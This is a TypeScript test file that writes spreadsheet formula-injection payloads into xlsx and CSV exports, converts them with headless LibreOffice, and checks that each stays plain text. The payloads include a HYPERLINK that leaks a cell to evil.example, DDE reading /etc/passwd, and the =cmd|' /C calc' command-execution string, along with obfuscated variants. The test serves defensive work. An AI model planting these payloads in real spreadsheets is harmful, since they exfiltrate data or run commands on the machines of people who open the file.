import { readXlsx } from 'hucre'
import { execFile } from 'node:child_process'
import { existsSync } from 'node:fs'
import { readFile, writeFile } from 'node:fs/promises'
import { delimiter, join } from 'node:path'
import { buffer } from 'node:stream/consumers'
import { pathToFileURL } from 'node:url'
import { promisify } from 'node:util'
import { expect, it } from 'vitest'
import { temporaryFolder } from '../../testing/temporary-folder.ts'
import { csvText } from './csv-text.ts'
import { columnLetters, rowXml } from './sheet-xml.ts'
import { writeWorkbook } from './workbook.ts'

const soffice = (process.env['PATH'] ?? '')
  .split(delimiter)
  .map((folder) => join(folder, 'soffice'))
  .find(existsSync)
if (soffice === undefined)
  console.warn('SKIPPED: exports in LibreOffice, which is not here (Debian: apt install libreoffice-calc-nogui)')

/** What a description on a controller may say to a spreadsheet. */
const TEXTS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=HYPERLINK("http://evil.example/?"&A1;"x")',
  '=WEBSERVICE("http://127.0.0.1:9/")',
  '=DDE("soffice";"/etc/passwd";"A1")',
  "=cmd|' /C calc'!A0",
  'of:=1+1',
  ' =1+1',
  '\t=1+1',
  '\u200B=1+1',
  '＝1+1',
  '"=1+1',
  "'=1+1",
  'a,=1+1',
  'a\n=1+1',
  '{=1+1}',
  '_x003D_1+1',
  'http://evil.example/',
  'file:///etc/passwd',
  'mailto:a@evil.example',
  '<a href="http://evil.example/">x</a>',
  '00012',
  '1e309',
  'TRUE',
]
/** Flat OpenDocument, in which formulas and links have names of their own. */
const FLAT = 'fods'
it.skipIf(soffice === undefined)(
  'is texts for LibreOffice, with no formula and no link',
  { timeout: 120_000 },
  async () => {
    const folder = temporaryFolder()
    await writeFile(join(folder, 'workbook.xlsx'), await workbookOf(TEXTS))
    await writeFile(join(folder, 'values.csv'), csvText([['text'], ...TEXTS.map((text) => [text])]))

    await convert(folder, FLAT, 'workbook.xlsx', 'values.csv')
    await convert(folder, 'xlsx', 'workbook.xlsx')

    const opened = async (name: string) => readFile(join(folder, 'opened', name), 'utf8')
    for (const name of ['workbook.fods', 'values.fods']) {
      expect(await opened(name)).toContain('office:value-type="string"')
      expect(await opened(name)).not.toMatch(/table:formula|<text:a |xlink:href|dde/)
    }
    const { sheets } = await readXlsx(await readFile(join(folder, 'opened', 'workbook.xlsx')))
    expect(sheets.map(({ rows }) => rows.flat())).toEqual([['text', ...TEXTS]])
  },
)

async function workbookOf(texts: readonly string[]): Promise<Buffer> {
  const xml = (from: number, to: number, first: number) =>
    texts
      .slice(from, to)
      .map((text, index) => rowXml(first + index, columnLetters(1), [text]))
      .join('')
  return buffer(writeWorkbook(['text'], batchesOf({ rowCount: texts.length, xml })))
}

async function* batchesOf<Batch>(batch: Batch): AsyncGenerator<Batch> {
  yield batch
}

async function convert(folder: string, format: string, ...files: string[]): Promise<void> {
  const profile = `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`
  const args = ['--headless', '--norestore', profile, '--convert-to', format, '--outdir', join(folder, 'opened')]
  await promisify(execFile)(soffice!, [...args, ...files], { cwd: folder })
}
